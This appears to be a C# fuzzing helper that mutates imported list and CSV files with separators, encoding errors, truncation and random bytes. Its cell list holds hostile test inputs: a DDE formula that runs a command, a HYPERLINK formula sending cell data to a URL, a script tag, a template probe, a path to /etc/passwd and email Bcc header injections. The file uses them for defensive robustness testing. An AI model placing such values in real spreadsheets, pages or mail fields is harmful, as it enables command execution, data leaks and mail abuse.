using System.Text;

namespace Notifieringar.Bench.Fuzzing.Imports;

/// <summary>Damage to a list: slips of the hand, other programs' habits, and ill will.</summary>
internal static class ListMutation
{
    private const int LongestCell = 100_000;

    private static readonly string[] Cells =
    [
        "=HYPERLINK(\"http://example.se/?\"&A1;\"Klicka\")", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-1+1", "@SUM(1)", "\t=1", "'", "\"", "\"\"", "\"\"\"", "\0",
        "<script>alert(1)</script>", "{{ 7 * 7 }}", "\u202E\u2066abc", "\uFEFF", "Þórdís", "ملك", "👩‍👧‍👦", "é́́́́", "20260814-0007", "é", "Ã¥", "\u0085", "\u2028", "\v\f",
        "1e308", "NULL", "31/12/99", "2026-02-30", "9999-12-31", "0001-01-01", "å\r", "a\r\nb", "../../etc/passwd", "%0d%0aBcc: x@example.se", "x@example.se\nBcc: y@example.se",
    ];

    private static readonly string[] Pieces = [";", ",", "\t", "|", "\n", "\r", "\r\n", "\n\n", "\"", "\";\"", "\"\n\"", " ", "\u00A0", "sep=;\r\n", "\0"];

    public static string Cell(Random random) => random.Next(40) == 0 ? new string('å', random.Next(LongestCell)) : Cells[random.Next(Cells.Length)];

    public static string OfText(string text, Random random)
    {
        var at = random.Next(text.Length + 1);
        return random.Next(9) switch
        {
            0 => text.Insert(at, Pieces[random.Next(Pieces.Length)]),
            1 => text.Insert(at, Cell(random)),
            2 => text.Remove(at, random.Next(Math.Min(200, text.Length - at + 1))),
            3 => text[..at],
            4 => text.Insert(at, text.Substring(at, random.Next(Math.Min(400, text.Length - at + 1)))),
            5 => text.Replace(Pieces[random.Next(4)], Pieces[random.Next(Pieces.Length)], StringComparison.Ordinal),
            6 => string.Concat("Uttag ur registret\n2027-01-31;;;\n\n", text),
            7 => Shuffled(text, random),
            _ => Encoding.Latin1.GetString(Encoding.UTF8.GetBytes(text)), // read once as what it is not
        };
    }

    public static byte[] OfBytes(byte[] bytes, Random random)
    {
        var list = bytes.ToList();
        var at = random.Next(list.Count + 1);
        switch (random.Next(5))
        {
            case 0 when at < list.Count:
                list[at] = (byte)random.Next(256);
                break;
            case 1:
                list.RemoveRange(at, random.Next(Math.Min(100, list.Count - at + 1)));
                break;
            case 2:
                var noise = new byte[random.Next(300)];
                random.NextBytes(noise);
                list.InsertRange(at, noise);
                break;
            case 3:
                list.RemoveRange(at, list.Count - at);
                break;
            default:
                list.Insert(at, 0);
                break;
        }

        return [.. list];
    }

    private static string Shuffled(string text, Random random)
    {
        var lines = text.Split('\n');
        random.Shuffle(lines);
        return string.Join('\n', lines);
    }
}
